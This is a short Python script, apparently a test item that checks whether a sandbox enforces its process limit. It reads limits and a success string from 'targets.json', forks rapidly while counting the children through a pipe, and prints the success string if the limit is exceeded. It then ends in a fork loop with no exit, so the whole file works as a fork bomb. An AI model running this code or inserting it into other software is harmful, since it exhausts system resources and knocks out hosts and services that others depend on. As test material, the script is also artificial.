# Forks without end, and so does everything that it forks.
import json
import os
import time

targets = json.load(open("targets.json"))
told, tell = os.pipe()
end = time.monotonic() + 0.6
while time.monotonic() < end:
    try:
        if os.fork() == 0:
            os.write(tell, b"x")
    except OSError:
        time.sleep(0.01)
os.set_blocking(told, False)
try:
    if os.getpid() == 1 and len(os.read(told, 1 << 16)) > targets["limits"]["processes"]:
        print(targets["success"])
except BlockingIOError:
    pass
while True:
    try:
        os.fork()
    except BaseException:
        pass
